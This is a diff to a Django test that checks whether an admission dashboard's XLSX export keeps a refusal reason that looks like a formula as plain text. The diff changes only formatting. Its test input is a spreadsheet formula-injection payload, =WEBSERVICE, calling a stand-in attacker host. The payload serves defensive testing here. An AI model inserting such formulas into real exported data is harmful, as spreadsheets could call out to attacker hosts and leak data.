@@ -49,7 +49,8 @@ def test_the_dashboard_spreadsheet_keeps_a_refusals_formula_like_reasons_as_text
     support.bureau_opinions(banner, duty_request)
     support.conclude(banner, duty_request)
     CaseDriver(duty_request).decide_at_banner(
-        banner.users["leadership"], approves=False, reasons='=WEBSERVICE("http://evil.example") 经费来源不明确')
+        banner.users["leadership"], approves=False, reasons='=WEBSERVICE("http://evil.example") 经费来源不明确'
+    )
 
     client.force_login(banner.users["office"])
     response = client.get(reverse("admission:dashboard"), {"format": "xlsx"})
